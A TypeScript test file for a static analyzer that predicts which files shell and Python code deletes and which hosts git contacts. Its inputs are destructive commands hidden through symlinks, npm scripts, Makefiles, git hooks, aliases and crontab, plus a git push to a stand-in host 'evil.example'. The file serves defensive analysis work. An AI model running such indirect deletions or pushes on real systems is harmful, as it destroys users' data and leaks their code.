import type { Effect, EffectContext, ExecutionState } from "@helve/effects";
import { readCode } from "@helve/effects";
import { python } from "@helve/effects/python";
import { shell } from "@helve/effects/shell";
import { runs } from "@helve/testing/property-runs";
import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { readPython, readShell } from "./read.ts";

const deleted = ({ effects }: { readonly effects: readonly Effect[] }): readonly unknown[] =>
  effects.flatMap((effect) => (effect.kind === "delete" ? [effect.target?.path ?? null] : []));

const text = (value: string) => ({ from: [], text: value });

describe("the state that surrounding code has", () => {
  it.each([
    [`cd documents && python3 -c "import os; os.remove('a')"`, ["documents/a"]],
    ["cd documents && python3 - <<EOF\nimport os\nos.remove('a')\nEOF", ["documents/a"]],
    ["cat > x.py <<EOF\nimport os\nos.remove('a')\nEOF\ncd documents; python3 ../x.py", ["documents/a"]],
    [`cd a; python3 -c "import os; os.chdir('b'); os.system('rm c')"; rm d`, ["a/b/c", "a/d"]],
    [`X=a python3 -c "import os; os.remove(os.environ['X'])"`, ["a"]],
    [`export X=a; python3 -c "import os; os.remove(os.environ['X'])"`, ["a"]],
    [`env X=a python3 -c "import os; os.remove(os.environ['X'])"`, ["a"]],
    [`X=a; python3 -c "import os; os.remove(os.environ['X'])"`, [null]],
    ["export X=a; bash -c 'rm $X'", ["a"]],
    ["export X=a; env -i bash -c 'rm $X'", [null]],
    ["set -a; X=a; bash -c 'rm $X'", ["a"]],
    [`echo 'rm a' | python3 -c "import sys, os; os.system(sys.stdin.read())"`, ["a"]],
    [`echo a | python3 -c "import os; os.remove(input())"`, ["a"]],
    [`python3 -c "open('x.sh', 'w').write('rm a')"; sh x.sh`, ["a"]],
    [`mkdir t; echo 'import os; os.remove("a")' > t/x.py; python3 -m t.x`, ["a"]],
    [`echo 'import os; os.remove("a")' > x.py; python3 -c "import x"`, ["a"]],
    [`ln -s documents d; python3 -c "import os; os.remove('d/a')"`, ["d/a", "documents/a"]],
    [`python3 -c "import os; os.symlink('documents', 'd')"; rm d/a`, ["d/a", "documents/a"]],
    [`ln -s documents d; node -e "require('fs').unlinkSync('d/a')"`, ["d/a", "documents/a"]],
    [`ln -s documents d; node -e "require('fs').unlinkSync('d')"`, ["d"]],
    [`node -e "require('fs').symlinkSync('documents', 'd')"; rm d/a`, ["d/a", "documents/a"]],
    [`node -e "fs.symlinkSync('documents', 'd'); fs.rmSync('d/a')"`, ["d/a", "documents/a"]],
    [`ln -s documents d; pwsh -c "Remove-Item d/a"`, ["d/a", "documents/a"]],
  ])("reaches code inside a command: %j deletes %j", (command, paths) => {
    expect(deleted(readShell(command))).toEqual(expect.arrayContaining(paths));
    expect(deleted(readShell(command))).toHaveLength(paths.length);
  });

  it.each([
    ["import os\nos.chdir('documents')\nos.system('rm a')", ["documents/a"]],
    ["import os\nos.system('cd documents')\nos.remove('a')", ["a"]],
    ["import subprocess\nsubprocess.run('rm a', cwd='documents', shell=True)", ["documents/a"]],
    ["import subprocess\nsubprocess.run('rm $X', shell=True, env={'X': 'a'})", ["a"]],
    ["import subprocess\nsubprocess.run(['bash'], input='rm a')", ["a"]],
    [
      "import json, os\njson.dump({'scripts': {'x': 'rm a'}}, open('package.json', 'w'))\nos.system('npm run x')",
      ["a"],
    ],
    [
      "import json, os\nopen('package.json', 'w').write(json.dumps({'scripts': {'x': 'rm a'}}, indent=2))\nos.system('yarn x')",
      ["a"],
    ],
    ["import os\nos.environ['X'] = 'a'\nos.system('rm $X')", ["a"]],
    ["import os\nopen('x.sh', 'w').write('rm a')\nos.system('sh x.sh')", ["a"]],
    ["import os\nwith open('x.sh', 'w') as f:\n  f.write('rm ')\n  f.write('a')\nos.system('sh x.sh')", ["a"]],
    [
      "import os, pathlib\npathlib.Path('x.sh').write_text('rm a')\nos.rename('x.sh', 'y.sh')\nos.system('sh y.sh')",
      ["a"],
    ],
    [`open('x.py', 'w').write("import os\\nos.remove('a')")\nexec(open('x.py').read())`, ["a"]],
  ])("reaches code inside a program: %j deletes %j", (program, paths) => {
    expect(new Set(deleted(readPython(program)))).toEqual(new Set(paths));
  });

  it("is unknown if computing it takes too much work", () => {
    const nested = Array.from({ length: 12 }, (_, n) => `a${n + 1} = [a${n}] * 150`).join("\n");
    const { after } = readPython(`import json\na0 = ["x"]\n${nested}\nopen("f", "w").write(json.dumps(a12))`);
    expect(after?.files?.get("f")?.text).toBeUndefined();
  });

  it("is not changed by a process for the code that started it", () => {
    expect(deleted(readShell("bash -c 'cd documents'; rm a"))).toEqual(["a"]);
    expect(deleted(readShell(`python3 -c "import os; os.chdir('x')"; rm a`))).toEqual(["a"]);
    expect(deleted(readPython("import os, subprocess\nsubprocess.run('cd x', shell=True)\nos.remove('a')"))).toEqual([
      "a",
    ]);
  });

  it("names no internal variable in reasons", () => {
    const programs = ["f'{x()} -rf'", "'sudo --odd ' + x()", "['sh', '-c', x()]", "x() + ' | sh'", "'$(' + x() + ')'"];
    for (const program of programs) {
      const { effects } = readPython(
        `import subprocess\nsubprocess.run(${program}, shell=${!program.startsWith("[")})`,
      );
      expect(JSON.stringify(effects)).not.toContain("BASH_COMMAND");
    }
  });
});

describe("the state that earlier code left", () => {
  const states: readonly (readonly [string, ExecutionState, readonly unknown[]])[] = [
    ["rm a", { directory: "documents" }, ["documents/a"]],
    ["rm a", { directory: null }, [null]],
    ["rm /a", { directory: null }, ["/a"]],
    ["rm $X", { environment: new Map([["X", text("a")]]) }, ["a"]],
    ["rm $X", { variables: new Map([["X", text("a")]]) }, ["a"]],
    ["bash -c 'rm $X'", { variables: new Map([["X", text("a")]]) }, [null]],
    ["sh x.sh", { files: new Map([["x.sh", text("rm a")]]) }, ["a"]],
    ["sh x.sh", { files: new Map([["x.sh", { from: [], missing: true }]]) }, []],
    ["sh x.sh", { files: new Map([["x.sh", { from: [], texts: ["rm a", "rm b"] }]]) }, ["a", "b"]],
    ["./run", { files: new Map([["run", text("#!/usr/bin/env python3\nimport os\nos.remove('a')")]]) }, ["a"]],
    ["cd s; sh ../x.sh", { files: new Map([["x.sh", text("rm a")]]) }, ["s/a"]],
    ["source env; rm $X", { files: new Map([["env", text("X=a")]]) }, ["a"]],
    ["crontab jobs", { files: new Map([["jobs", text("0 * * * * rm a")]]) }, ["a"]],
    ["rm -r d/", { links: new Map([["d", "~/docs"]]) }, ["d", "~/docs"]],
    ["rm -r d/x", { links: new Map([["d", null]]) }, ["d/x", null]],
    ["rm d", { links: new Map([["d", "~/docs"]]) }, ["d"]],
    ["f a", { settings: new Map([["function f", '{ rm "$1"; }']]) }, ["a"]],
    ["ll a", { settings: new Map([["alias ll", "rm -f"]]) }, ["a"]],
    ["git st", { settings: new Map([["git alias st", "!rm a"]]) }, ["a"]],
    ["git st a", { settings: new Map([["git alias st", "rm"]]) }, ["a"]],
    ["npm test", { settings: new Map([["npm script test", "rm a"]]) }, ["a"]],
    [
      "npm run x -- a",
      { files: new Map([["package.json", text('{"scripts":{"x":"rm","postx":"rm b"}}')]]) },
      ["a", "b"],
    ],
    ["yarn x", { files: new Map([["package.json", text('{"scripts":{"prex":"rm a"}}')]]) }, ["a"]],
    ["make", { files: new Map([["Makefile", text("D = a\nall: b\n\t@rm $(D)\nb:\n\t-rm $@")]]) }, ["b", "a"]],
    ["make -C s c", { files: new Map([["s/Makefile", text("%: ; rm $@.o $$X")]]) }, ["s/c.o", null]],
    ["make", { files: new Map([["Makefile", text("X := $(shell rm a)\nall:\n\techo")]]) }, ["a"]],
    ["just y", { files: new Map([["justfile", text("d := 'a'\nx:\n  rm {{d}}\ny: x\n  @rm b")]]) }, ["a", "b"]],
    ["git commit -m x", { files: new Map([[".git/hooks/pre-commit", text("rm a")]]) }, ["a"]],
  ];

  it.each(states)("is where %j starts, with %j", (command, state, paths) => {
    expect(new Set(deleted(readShell(command, state)))).toEqual(new Set(paths));
  });

  it("is null for functions and aliases whose text is unknown, which may do anything", () => {
    for (const name of ["function f", "alias f", "git alias f", "npm script f"]) {
      const command = name.startsWith("git") ? "git f" : name.startsWith("npm") ? "npm run f" : "f";
      const kinds = readShell(command, { settings: new Map([[name, null]]) }).effects.map(({ kind }) => kind);
      expect(kinds).toContain("anything");
    }
  });

  it("decides which host git contacts", () => {
    const hosts = (command: string, context: EffectContext = {}): readonly unknown[] =>
      readShell(command, context).effects.flatMap((effect) => (effect.kind === "network" ? [effect.host] : []));
    const url = "https://evil.example/x";
    expect(hosts(`git remote set-url origin ${url}; git push`)).toEqual(["evil.example"]);
    expect(hosts("git push", { settings: new Map([["git remote origin", url]]) })).toEqual(["evil.example"]);
    expect(hosts(`git remote add up ${url}; git push up; git push`)).toEqual(["evil.example", null]);
    expect(hosts(`git config remote.up.url ${url}; git config remote.pushDefault up; git push`)).toEqual([
      "evil.example",
    ]);
  });

  it("finds a file by each of its paths", () => {
    const places = { workingDirectory: "/home/ada/site", home: "/home/ada" };
    for (const written of ["x.sh", "/home/ada/site/x.sh", "~/site/x.sh", "../site/x.sh"])
      for (const run of ["sh x.sh", "cd /home/ada/site; ./x.sh", "cd /tmp; bash ~/site/x.sh"]) {
        const { after } = readShell(`echo 'rm /a' > ${written}`, places);
        expect(deleted(readShell(run, { ...places, ...after }))).toEqual(["/a"]);
      }
  });

  it("is kept within one interpreter", () => {
    const { after } = readPython("import os\nos.chdir('documents')\nos.environ['X'] = 'a'");
    expect(after).toMatchObject({ directory: "documents", environment: new Map([["X", text("a")]]) });
    expect(deleted(readPython("import os\nos.remove(os.environ['X'])", after))).toEqual(["documents/a"]);
  });

  it("is what a text changed, and nothing else", () => {
    expect(readShell("ls; cat a").after).toBeUndefined();
    expect(readPython("print(1)").after).toBeUndefined();
    expect(readShell("cd a; X=1; export Y=2; echo x > f; rm g; ln -s t l").after).toEqual({
      directory: "a",
      environment: new Map([["Y", text("2")]]),
      variables: new Map([["X", text("1")]]),
      files: new Map([["a/f", text("x\n")]]),
      links: new Map([["a/l", "a/t"]]),
    });
    // `b` may be a folder.
    expect(readShell("mv a b", { files: new Map([["a", text("ls")]]) }).after?.files).toMatchObject(
      new Map([
        ["a", { missing: true }],
        ["b", { text: "ls" }],
        ["b/a", { text: "ls" }],
      ]),
    );
    const { after } = readShell("f() { ls; }; alias l='ls -l'; git config alias.st status");
    expect(after?.settings).toEqual(
      new Map([
        ["git alias st", "status"],
        ["function f", "{ ls; }"],
        ["alias l", "ls -l"],
      ]),
    );
  });

  it("has both texts of a file that may or may not have been written again", () => {
    const files = new Map([["x.sh", text("rm a")]]);
    for (const command of ["false && echo 'rm b' > x.sh", "[ -e y ] || echo 'rm b' > x.sh", "echo 'rm b' | tee x.sh"]) {
      const { after } = readShell(command, { files });
      expect(
        after?.files
          ?.get("x.sh")
          ?.texts?.map((each) => each.trim())
          .toSorted(),
      ).toEqual(["rm a", "rm b"]);
    }
    expect(readShell("echo 'rm b' > x.sh", { files }).after?.files?.get("x.sh")).toEqual(text("rm b\n"));
  });

  it("has the directory of a chain whose first commands seldom fail", () => {
    expect(readShell("mkdir -p build && cd build && cmake ..").after?.directory).toBe("build");
    expect(readShell("make && cd build").after?.directory).toBeNull();
  });

  it("has a function that is defined twice with the same body", () => {
    const { after } = readShell("f() { rm $1; }; f() { rm $1; }");
    expect(after?.settings?.get("function f")).toContain("rm $1");
  });

  it("makes reading two texts one after the other the same as reading them as one", () => {
    const name = fc.constantFrom("a", "b", "c");
    const value = fc.constantFrom("x", "x/y", "~/z", "$V", "$W");
    const command = fc.oneof(
      name.map((path) => `cd ${path}`),
      fc.constantFrom("cd ..", "cd /", "cd"),
      value.map((text) => `V=${text}`),
      value.map((text) => `export W=${text}`),
      value.map((path) => `rm ${path}`),
      fc.tuple(value, name).map(([path, file]) => `echo "rm ${path}" > ${file}`),
      fc.tuple(name, name).map(([from, to]) => `cp ${from} ${to}`),
      fc.tuple(name, name).map(([from, to]) => `mv ${from} ${to}`),
      name.map((file) => `sh ${file}`),
      name.map((file) => `rm ${file}`),
      fc.tuple(value, name).map(([to, link]) => `ln -s ${to} ${link}`),
      name.map((link) => `rm ${link}/t`),
      fc.constantFrom("f() { rm $1; }", "f q", "git remote add o https://h.example/r", "git push o", "bash -c 'rm $W'"),
      name.map((file) => `python3 -c "import os; os.remove('${file}')"`),
    );
    const texts = fc.array(command, { minLength: 1, maxLength: 4 }).map((commands) => commands.join("; "));
    // A function that the first text only defines is read there, too; its effects are possible.
    const shown = (effects: readonly Effect[]): readonly string[] =>
      [
        ...new Set(
          effects
            .filter(({ certainty }) => certainty === "certain")
            .map(({ start: _, end: __, ...effect }) => JSON.stringify(effect)),
        ),
      ].sort();
    fc.assert(
      fc.property(texts, texts, (first, second) => {
        fc.pre(!first.includes("f()") || !second.includes("f()"));
        const { effects, after } = readShell(first);
        const both = [...effects, ...readShell(second, after).effects];
        const whole = readShell(`${first}; ${second}`).effects;
        expect(shown(both)).toEqual(shown(whole));
      }),
      { numRuns: runs(400, 5000) },
    );
  });
});

describe("a Markdown fence", () => {
  const languages = { shell, python };
  const code = "import os\nos.remove('a')\n";

  it.each(["```python\n", "```\n", "~~~py\n", "  ```Python \n", "````python\r\n"])(
    "that begins with %j is no code",
    (opening) => {
      for (const closing of [opening.trim().slice(0, opening.includes("````") ? 4 : 3), ""]) {
        const whole = opening + code + closing;
        const { effects } = readCode("python", whole, { languages });
        expect(deleted({ effects })).toEqual(["a"]);
        expect(effects.map(({ start, end }) => whole.slice(start, end))).toContain("os.remove('a')");
        expect(python.read(whole, { languages }).effects).toEqual(effects);
      }
    },
  );

  it("is read as code if other text surrounds it, or if a shell would run its first line", () => {
    for (const whole of [
      "```rm\nls\n```",
      "Here:\n```sh\nls\n```",
      "```sh\nls\n```\nrm b",
      "```sh\nls\n```\n```sh\nls\n```",
    ]) {
      expect(shell.read(whole).effects).toEqual(
        readCode("shell", whole, { languages, nesting: { depth: 0, work: { left: 5000 } } }).effects,
      );
    }
    expect(deleted(shell.read("```sh\nrm a\n```\n"))).toEqual(["a"]);
  });
});
